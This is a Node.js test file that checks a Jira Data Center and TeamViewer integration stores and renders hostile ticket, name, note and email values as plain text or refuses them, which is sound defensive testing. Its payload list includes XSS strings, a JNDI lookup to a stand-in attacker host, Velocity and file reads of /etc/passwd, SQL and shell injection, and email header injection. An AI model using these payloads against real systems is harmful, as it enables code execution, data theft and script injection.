// Values that would be something else than text, beside a Jira Data Center: wiki markup, Velocity, HTML, what looks like ADF, marks that turn text around, control
// characters. From a summary, names, descriptions, notes, the customer text and TeamViewer's records they go to the ticket, as Atlassian's own parser reads it,
// to the panel, and to the mail that is sent by hand: always as what they are.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { readWiki, shown } from '../contract/wiki_judge.mjs';
import { onPanel, openDataCenter, people } from '../harness/datacenter.mjs';
import { request } from '../harness/http.mjs';
import { link } from '../harness/linking.mjs';
import { siteSettings } from '../harness/matrix.mjs';
import { until } from '../harness/wait.mjs';

const hostile = [
  '[~isorensen] [~belay] @isorensen',
  '[press here|http://evil.example/] [http://evil.example/] [mail|mailto:a@evil.example] [#anchor] [^report.pdf]',
  'https://evil.example/?a=b&c=d ftp://evil.example mailto:a@evil.example www.evil.example file:///etc/passwd \\\\evil\\share',
  '!http://evil.example/track.png! !image.png|thumbnail! !movie.mov!',
  '{code:java}rm -rf{code} {noformat}x{noformat} {quote}q{quote} {color:red}red{color} {panel:title=T}p{panel}',
  '{include:secret} {anchor:x} {toc} {html}<b>{html} {jira:key=PRESS-1} {adf}{"type":"doc"}{adf}',
  '*bold* _italic_ -gone- +new+ ^up^ ~down~ ??cited?? {{mono}} {*}b{*}',
  'h1. A heading', 'bq. A quotation', '# one', '* one', '- one', '|| a || b ||', '| a | b |', '----', '--- -- (c) (tm) (r)',
  ':) :( :P :D ;) (y) (n) (i) (/) (x) (!) (+) (-) (?) (on) (off) (*) (*r)',
  '&lt;b&gt; &amp; &#91;~isorensen&#93; &#x5b; &nbsp;',
  '\\[~isorensen] \\\\ \\{code} \\\\[~isorensen]',
  '$issue.key $!{issue.summary} ${x} #set($x = "y") #foreach($i in [1..9])$i#end #include("/etc/passwd") ## gone',
  '{{session.link}} {{session.code}} {{customer.name}} {{{issue.key}}} %s %1$s {0} {name} ${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a><!-- ',
  '"><svg/onload=alert(1)> \' OR 1=1 -- `id` $(id) ]]> </textarea>',
  '{"type":"doc","version":1,"content":[{"type":"mention","attrs":{"id":"JIRAUSER10106"}}]}',
  'before\u202eevil\u202d \u2066inside\u2069 \u202aafter\u202c \u200f\u200e',
  'bell\u0007 escape\u001b[31m delete\u007f next\u0085line para\u2029graph line\u2028end tab\there null\u0001',
  'two\r\nlines\nh1. heading\n* item\n[~isorensen]',
  'zero\u200bwidth\u2060joiner \ufeffmark nonchar\ufdd0\uffff \u{1f469}\u{1f3fd}\u200d\u{1f680} e\u0301',
];
const kAgent = '[~isorensen] {color:red}Tomás{color} $user.name *b*';
const kAtTeamViewer = 'Tomás [x|http://evil.example] {code}';
const kText = '*Hello* {{customer.name}}: h1. $issue.key #set($x) <b>{{issue.summary}}</b> [~isorensen] {color:red} https://evil.example/\n\nh2. {{agent.name}} !x.png! {{session.link}}\n* {{issue.key}} (!) {{session.code}}';
/** Usernames that Jira mentions by, and those that would be something else between the brackets of a mention. */
const username = (n) => (n % 2 === 0 ? `plain.user-${n}` : ['x]x[~isorensen', '{code}', 'a|b', 'two words', '*b*', 'a@b.example', '~~', '<b>', '$u', 'x\u202ey'][(n >> 1) % 10] + n);

/** docs/customer-text.md, "What values can do": a value stays on its line, without control characters and what turns text around. */
const oneLine = (text) => text.replace(/[\t\n\v\f\r\u0085\u2028\u2029]+/g, ' ').replace(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\ufdd0-\ufdef\ufffe\uffff]/g, '');
/** Of a customer's name a session keeps a hundred characters. */
const named = (value) => Array.from(value).slice(0, 100).join('').trim();
const cast = hostile.map((value, n) => ({
  value,
  person: { key: `HOSTILE${n}`, name: username(n), displayName: value, email: `hostile${n}@example.com`, groups: [] },
  issue: { key: `DESK-${100 + n}`, summary: value, reporter: `HOSTILE${n}`, assignee: people.agent.key },
}));

let world;
let agents;     // of each issue, on its panel
let sessions;   // of each issue
before(async () => {
  world = await openDataCenter({
    configure: () => ({ teamviewer: { calls_per_minute: 600 } }),
    change: (seed) => {
      const [dc] = seed.datacenter;
      dc.people = [...dc.people.map((one) => (one.key === people.agent.key ? { ...one, displayName: kAgent } : one)), ...cast.map(({ person }) => person)];
      dc.issues.push(...cast.map(({ issue }) => issue));
      seed.teamviewer.accounts.find(({ email }) => email === people.agent.email).name = kAtTeamViewer;
    },
  });
  const agent = await (await onPanel(world, 'dc', people.agent, cast[0].issue.key)).signIn();
  const account = (await world.sandbox.state()).teamviewer.accounts.find(({ email }) => email === people.agent.email).id;
  await link(agent, { account });
  await link(agent, { account, access: 'reports' });
  const admin = (await (await onPanel(world, 'dc', people.admin, cast[0].issue.key)).signIn()).with({ page: 'admin', issue: undefined });
  const { version } = await admin.expect(200, 'GET', '/v1/settings');
  await admin.expect(200, 'PUT', '/v1/settings', { ...siteSettings, version, worklog: true, customerText: { en: kText, fr: kText } });
  const { issues } = await site();
  agents = cast.map(({ issue }) => agent.with({ issue: issues.find(({ key }) => key === issue.key).id }));
});
after(() => world?.close());

async function site() { return (await world.sandbox.state()).datacenter.sites.find(({ name }) => name === 'dc'); }
async function onTicket(n) { return (await site()).issues.find(({ key }) => key === cast[n].issue.key); }
const everyone = (what, wanted) => until(what, async () => {
  world.clock.advance({ milliseconds: 500 });
  const all = await Promise.all(cast.map(async (_, n) => (await agents[n].expect(200, 'GET', `/v1/sessions/${sessions[n].id}`)).session));
  return all.every(wanted) && all;
});
const renew = async () => agents[0].take(await agents[0].token({ grant: 'refresh' }));
/** The paragraphs that somebody reads; fails on anything that is neither text nor one of `links`, and on what would begin a macro, a link or a picture that the parser does not know. */
function read(wiki, { links = [], mentions = 0 } = {}) {
  assert.doesNotMatch(wiki.replace(/\[(~[\w.-]+|https?:[^\]\s]+)\]/g, ''), /(?<!\\)[{}[\]|!]/);
  const paragraphs = shown(readWiki(wiki));
  const parts = paragraphs.flat(2);
  assert.deepEqual(parts.filter(({ other }) => other !== undefined).map(({ other }) => other), Array(mentions).fill('mention'), wiki);
  assert.deepEqual(parts.filter(({ link: to }) => to !== undefined).map(({ link: to }) => to), links, wiki);
  return paragraphs;
}
/** The words of a text as they are read. */
const asRead = (text) => shown([[{ text }]]).flat(2).map((part) => part.text).join('');
const wordsOf = (paragraphs) => paragraphs.map((lines) => lines.map((line) => line.map(({ text }) => text ?? '').join('')).join('\n')).join('\n\n');

test('the panel has each value as Jira has it, in JSON that no browser takes for a page', async () => {
  for (const [n, { value, person }] of cast.entries()) {
    const answer = await agents[n].get('/v1/panel');
    assert.equal(answer.headers['x-content-type-options'], 'nosniff');
    assert.match(answer.headers['content-type'], /^application\/json/);
    assert.equal(answer.json.issue.summary, value);
    assert.equal(answer.json.people.find(({ id }) => id === person.key).name, value);
    assert.equal(answer.json.viewer.name, kAgent);
    const { description } = answer.json.defaults;
    assert.equal(description.trim(), oneLine(`${cast[n].issue.key} ${value}`).trim());
  }
});

test('what the agent is offered for a description is one that a session takes, and so is none at all', async () => {
  for (const caller of agents) {
    const { defaults } = await caller.expect(200, 'GET', '/v1/panel');
    for (const description of [undefined, defaults.description]) {
      const answer = await caller.post('/v1/sessions', { customer: { name: 'Nobody Example' }, description, invitation: 'none' });
      if (answer.status === 202) await caller.call('POST', `/v1/sessions/${answer.json.session.id}/close`, {});
      assert.equal(answer.status, 202, `${JSON.stringify(description)}: ${answer.text}`);
    }
  }
});

test('as a description it is taken as it is, or refused with the reason; TeamViewer is told the same', async () => {
  sessions = [];
  for (const [n, { value, person }] of cast.entries()) {
    let answer = await agents[n].post('/v1/sessions', { customer: { id: person.key }, description: value, invitation: 'public' });
    if (answer.status === 400) {
      assert.deepEqual([answer.json.code, answer.json.detail.field], ['invalid_field', 'description'], answer.text);
      assert.notEqual(oneLine(value), value, 'only what holds something of that kind is refused');
      answer = await agents[n].post('/v1/sessions', { customer: { id: person.key }, description: oneLine(value), invitation: 'public' });
    }
    assert.equal(answer.status, 202, answer.text);
    sessions.push(answer.json.session);
  }
  sessions = await everyone('all are open, their invitations written', ({ state, steps }) => state === 'open' && steps.invitation === 'done');
  const made = (await world.sandbox.state()).teamviewer.sessions;
  for (const [n, session] of sessions.entries()) {
    assert.equal(oneLine(session.description), oneLine(cast[n].value).slice(0, 4_000));
    assert.equal(session.customer.name, oneLine(named(cast[n].value)));
    const { description } = made.find(({ code }) => code === session.code);
    if (description !== undefined) assert.ok(description.includes(session.description), description);
  }
});

test('the invitation reads as the admin wrote it, with each value in its place: one link, one mention of the customer, and text', async () => {
  for (const [n, { value, person, issue }] of cast.entries()) {
    const { comments } = await onTicket(n);
    assert.equal(comments.length, 1);
    const [{ body, author }] = comments;
    assert.equal(author, people.service.key);
    const session = sessions[n];
    const plain = /^[A-Za-z0-9._-]+$/.test(person.name);
    // At once, so that no variable in a value is filled in.
    const values = { 'customer.name': oneLine(named(value)), 'issue.summary': oneLine(value), 'issue.key': issue.key, 'session.code': session.code, 'agent.name': kAgent };
    const filled = (text) => text.replace(/\{\{([a-zA-Z.]+)\}\}/g, (_, name) => values[name]);
    const [first, second] = kText.split('\n\n');
    const [before, afterwards] = second.split('{{session.link}}');
    const [sameLine, nextLine] = afterwards.split('\n');
    const written = [
      ...(plain ? [[{ other: 'mention' }]] : [[{ text: oneLine(named(value)) }]]),
      [{ text: filled(first) }],
      [{ text: filled(before) }, { link: session.customerLink }, { text: filled(sameLine) }, { break: true }, { text: filled(nextLine) }],
    ];
    assert.deepEqual(read(body, { links: [session.customerLink], mentions: plain ? 1 : 0 }), shown(written), `${JSON.stringify(value)}\n${body}`);
    assert.deepEqual([...body.matchAll(/(?<!\\)\[~([^\]]*)\]/g)].map(([, name]) => name), plain ? [person.name] : []);
  }
});

test('who waits is told of to the team as text, and mentions the agent alone', async () => {
  await world.sandbox.change({ teamviewer: { sessions: sessions.map(({ code }) => ({ code, online: true })) } });
  await everyone('all are there', ({ state }) => state === 'customer_present');
  for (const [n, { value }] of cast.entries()) {
    const { comments } = await until('the team is told', async () => {
      world.clock.advance({ milliseconds: 500 });
      const ticket = await onTicket(n);
      return ticket.comments.length === 2 && ticket;
    });
    const { body, internal } = comments[1];
    assert.equal(internal, true);
    assert.deepEqual([...body.matchAll(/(?<!\\)\[~([^\]]*)\]/g)].map(([, name]) => name), [people.agent.name]);
    assert.ok(wordsOf(read(body, { mentions: 1 })).includes(asRead(oneLine(named(value)))), `${JSON.stringify(value)}\n${body}`);
  }
});

test('notes are kept as typed or refused with the reason, and come back the same', async () => {
  for (const [n, { value }] of cast.entries()) {
    const answer = await agents[n].call('PATCH', `/v1/sessions/${sessions[n].id}`, { notes: value });
    if (answer.status === 400) {
      assert.deepEqual([answer.json.code, answer.json.detail.field], ['invalid_field', 'notes'], answer.text);
      await agents[n].expect(200, 'PATCH', `/v1/sessions/${sessions[n].id}`, { notes: oneLine(value) });
    } else {
      assert.equal(answer.json.session.notes, value, 'as typed');
    }
  }
});

test('what came of it, with notes, the customer’s words and names of TeamViewer, is text on the ticket and in the time worked', async () => {
  await renew();
  for (const [n, { id }] of sessions.entries()) await agents[n].expect(202, 'POST', `/v1/sessions/${id}/close`, {});
  await everyone('all are closed', ({ steps }) => steps.closing === 'done');
  const account = (await world.sandbox.state()).teamviewer.accounts.find(({ email }) => email === people.agent.email).id;
  world.clock.advance({ seconds: 300 });
  await renew();
  // The sandbox's control takes no control characters here.
  const said = ({ value }) => (/[^\P{Cc}\n\t]/u.test(value) ? oneLine(value) : value);
  await world.sandbox.change({ teamviewer: { records: sessions.map(({ code }, n) => ({ session: code, startedSecondsAgo: 290, seconds: 240, account, rating: 4, comment: said(cast[n]), notes: said(cast[n]) })) } });
  world.clock.advance({ seconds: 121 });
  await everyone('all are reported', ({ state }) => state === 'reported');
  for (const [n, { value, person }] of cast.entries()) {
    const ticket = await until('the time is booked', async () => {
      world.clock.advance({ milliseconds: 500 });
      const now = await onTicket(n);
      return now.worklogs.length === 1 && now;
    });
    const own = ticket.comments.filter(({ author }) => author === people.service.key);
    const [invitation, , report] = own;
    assert.equal(report.internal, true, 'notes are the team’s');
    const words = wordsOf(read(report.body));
    assert.ok(words.includes(asRead(oneLine(value))), `${JSON.stringify(value)}\n${report.body}`);
    assert.ok(words.includes(asRead(kAtTeamViewer)), words);
    assert.ok(wordsOf(read(ticket.worklogs[0].comment)).includes(asRead(kAtTeamViewer)), ticket.worklogs[0].comment);
    // The invitation now says that it is over, and nothing else than text.
    const plain = /^[A-Za-z0-9._-]+$/.test(person.name);
    const ended = readWiki(invitation.body).flat().filter(({ other, link: to }) => other || to);
    assert.ok(ended.every(({ other }) => other === 'mention' && plain), `${invitation.body} ${JSON.stringify(ended)}`);
  }
});

test('a customer who was typed in: their name stands on one line of the mail and of the ticket, or is refused', async () => {
  for (const [n, { value }] of cast.entries()) {
    const name = named(value);
    const answer = await agents[n].post('/v1/sessions', { customer: { name }, invitation: 'public' });
    if (answer.status === 400) {
      assert.deepEqual([answer.json.code, answer.json.detail.field], ['invalid_field', 'customer.name'], answer.text);
      assert.notEqual(oneLine(name), name);
      sessions[n] = undefined;
    } else {
      assert.equal(answer.status, 202, answer.text);
      sessions[n] = answer.json.session;
    }
  }
  assert.ok(sessions.filter(Boolean).length > 20);
  for (const [n, { value, issue }] of cast.entries()) {
    if (!sessions[n]) continue;
    const session = await until('it is open', async () => {
      world.clock.advance({ milliseconds: 200 });
      const { session: now } = await agents[n].expect(200, 'GET', `/v1/sessions/${sessions[n].id}`);
      return now.state === 'open' && now.steps.invitation === 'done' && now;
    });
    const { mail } = session;
    assert.equal(mail.to, undefined);
    assert.equal(mail.subject, oneLine(mail.subject), 'a subject has one line');
    assert.ok(mail.body.includes(session.customerLink));
    assert.ok(mail.body.includes(oneLine(named(value))), mail.body);
    assert.doesNotMatch(mail.body, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    const { body } = (await onTicket(n)).comments.at(-1);
    assert.ok(wordsOf(read(body, { links: [session.customerLink] })).includes(asRead(oneLine(named(value)))), body);
    assert.ok(body.includes(issue.key.replace('-', '\\-')));
  }
});

test('addresses that would be more than one, or a header, are refused', async () => {
  for (const email of ['a@b.example\r\nBcc: c@d.example', 'a@b.example,c@d.example', 'a@b.example;c@d.example c', '<script>@b.example\u0000', 'a @b.example', '\u202ea@b.example', '@b.example', 'a@', 'tomas at example dot com', '***', '[~admin]']) {
    const answer = await agents[0].post('/v1/sessions', { customer: { name: 'Ada Example', email }, invitation: 'none' });
    assert.deepEqual([answer.status, answer.json.code, answer.json.detail?.field], [400, 'invalid_field', 'customer.email'], `${JSON.stringify(email)} ${answer.text}`);
  }
});

test('pages show nothing of what their address says', async () => {
  for (const { value } of cast) {
    const at = encodeURIComponent(value);
    for (const path of [`pages/panel/?issue=${at}&key=${at}&at=${at}`, `signin?nonce=${at}`, `callback?state=${at}&code=${at}&error=${at}`, `pages/${at}/`]) {
      const { text, headers } = await request(`${world.publicUrl}/datacenter/dc/${path}`, { headers: { accept: 'text/html', 'accept-language': 'fr' } });
      assert.ok(headers['content-security-policy'], path);
      if (/[<"'&{$]/.test(value)) assert.ok(!text.includes(value), `${path} shows it`);
    }
  }
});
